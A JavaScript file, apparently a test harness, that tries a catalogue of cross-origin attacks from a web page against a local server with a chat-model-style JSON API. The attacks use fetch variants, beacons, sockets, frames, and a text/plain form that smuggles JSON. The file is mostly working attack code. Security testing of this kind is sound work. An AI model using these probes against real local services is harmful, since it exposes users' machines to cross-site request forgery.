// What a page of another site can try against a server on this machine.
// Each attack comes to what the page learned by it, or null; `attack=` in its address says which it was.

const JSON_TEXT = '{"model": "demo", "messages": [{"role": "user", "content": "ping"}], "token": "guess"}';
const AS_JSON = { "Content-Type": "application/json" };
const GUESS = { Authorization: "Bearer guess" };
const multipart = new FormData();
multipart.append("token", "guess");

const FETCHES = {
  "get": {},
  "get-no-cors": { mode: "no-cors" },
  "get-with-key": { headers: GUESS },
  "get-no-cors-credentials": { mode: "no-cors", credentials: "include" },
  "delete": { method: "DELETE" },
  "post": { method: "POST" },
  "post-text": { method: "POST", body: JSON_TEXT },
  "post-json": { method: "POST", body: JSON_TEXT, headers: AS_JSON },
  "post-json-with-key": { method: "POST", body: JSON_TEXT, headers: { ...AS_JSON, ...GUESS } },
  "post-no-cors": { method: "POST", mode: "no-cors" },
  "post-no-cors-text": { method: "POST", mode: "no-cors", body: JSON_TEXT },
  "post-no-cors-json": { method: "POST", mode: "no-cors", body: JSON_TEXT, headers: AS_JSON },
  "post-no-cors-untyped": { method: "POST", mode: "no-cors", body: new Blob([JSON_TEXT]) },
  "post-no-cors-form": { method: "POST", mode: "no-cors", body: new URLSearchParams({ token: "guess" }) },
  "post-no-cors-multipart": { method: "POST", mode: "no-cors", body: multipart },
  "post-no-cors-keepalive": { method: "POST", mode: "no-cors", body: JSON_TEXT, keepalive: true },
};

const ELEMENTS = {
  img: (url) => ["img", { src: url }],
  script: (url) => ["script", { src: url }],
  module: (url) => ["script", { src: url, type: "module" }],
  stylesheet: (url) => ["link", { rel: "stylesheet", href: url }],
  prefetch: (url) => ["link", { rel: "prefetch", href: url }],
  video: (url) => ["video", { src: url, preload: "auto" }],
};

const BEACONS = {
  "beacon-text": JSON_TEXT,
  "beacon-json": new Blob([JSON_TEXT], { type: "application/json" }),
  "beacon-form": new URLSearchParams({ token: "guess" }),
};

const FORMS = {
  "form": {},
  "form-text": { enctype: "text/plain" },
};

const named = (url, attack) => `${url}?attack=${attack}`;

async function byFetch(url, options) {
  try {
    const response = await fetch(url, options);
    return response.type === "opaque" ? null : `${response.status} ${await response.text()}`;
  } catch {
    return null;
  }
}

const append = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));

function byElement([tag, properties]) {
  return new Promise((resolve) => {
    const onload = () => resolve("loaded");
    append(tag, { ...properties, onload, onloadeddata: onload, onerror: () => resolve(null) });
  });
}

// `fill` makes the new frame go somewhere.
function byFrame(fill) {
  return new Promise((resolve) => {
    const frame = append("iframe", { name: `frame-${Math.random()}` });
    frame.onload = () => { resolve(textOf(frame)); frame.remove(); };
    fill(frame);
  });
}

function textOf(frame) {
  try {
    return frame.contentDocument && `frame ${frame.contentDocument.documentElement.innerText}`;
  } catch {
    return null;
  }
}

function sendForm(url, attack, properties) {
  const form = append("form", { action: named(url, attack), method: "POST", ...properties });
  // As text/plain this is JSON.
  const smuggled = { type: "hidden", name: '{"token": "guess', value: '"}' };
  form.append(Object.assign(document.createElement("input"), smuggled));
  form.submit();
}

function byChannel(channel) {
  return new Promise((resolve) => {
    const end = (learned) => { channel.close(); resolve(learned); };
    channel.onopen = channel.onmessage = () => end("opened");
    channel.onerror = () => end(null);
  });
}

function byBeacon(url, body) {
  navigator.sendBeacon(url, body);
  return null;
}

// Everything against one address. Frames are dear and many sockets are delayed, so these are only tried with the
// method that the address is for.
async function attackOne({ url, method }) {
  const trials = { events: byChannel(new EventSource(named(url, "events"))) };
  for (const [attack, options] of Object.entries(FETCHES)) trials[attack] = byFetch(named(url, attack), options);
  for (const [attack, make] of Object.entries(ELEMENTS)) trials[attack] = byElement(make(named(url, attack)));
  for (const [attack, body] of Object.entries(BEACONS)) trials[attack] = byBeacon(named(url, attack), body);
  if (method === "GET") {
    trials.socket = byChannel(new WebSocket(named(url, "socket").replace("http:", "ws:")));
    trials.frame = byFrame((frame) => { frame.src = named(url, "frame"); });
    trials.object = byElement(["object", { data: named(url, "object") }]);
  } else {
    for (const [attack, properties] of Object.entries(FORMS)) {
      trials[attack] = byFrame((frame) => sendForm(url, attack, { ...properties, target: frame.name }));
    }
  }
  const learned = await Promise.all(Object.values(trials));
  return Object.keys(trials).map((attack, place) => ({ attack, url, learned: learned[place] }));
}

async function attack(targets) {
  return (await Promise.all(targets.map(attackOne))).flat();
}

// Each in a tab of its own.
function openTabs(targets) {
  for (const { url, method } of targets) {
    if (method === "GET") append("a", { href: named(url, "tab"), target: "_blank", rel: "opener" }).click();
    else sendForm(url, "tab", { target: "_blank" });
  }
}
